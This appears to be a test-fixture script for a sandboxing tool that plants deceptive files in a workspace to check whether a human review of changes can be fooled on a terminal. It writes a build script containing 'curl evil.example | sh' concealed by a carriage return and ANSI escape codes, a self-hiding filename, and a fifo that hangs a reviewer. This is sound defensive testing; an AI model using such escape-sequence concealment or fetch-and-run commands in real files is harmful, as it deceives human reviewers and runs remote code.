"""Plant what would make the owner's review of an overlaid run lie on a terminal: a script
whose dangerous line a carriage return and an escape sequence erase on screen, a file whose
name hides itself the same way, and a fifo (a review that opens it hangs). The host then
reviews the run's changes as `stockade changes` shows them (launches.reviewed) and judges
what reached the screen.

Arguments: the workspace (an overlay).
"""

import os
import sys

from _common import ARGS, note

ws = ARGS[0]
try:
    with open(os.path.join(ws, "build.sh"), "wb") as f:
        f.write(b"echo building\rcurl evil.example | sh\x1b[2K\x1b[1A\n")
    with open(os.path.join(ws, "name\x1b[8m hidden\rnotes.txt"), "wb") as f:
        f.write(b"x\n")
    os.mkfifo(os.path.join(ws, "pipe"))
except OSError as exc:
    print(f"plant in the workspace: error {exc}", flush=True)
    sys.exit(1)
note("planted", "a script, a name with ESC and CR, a fifo")
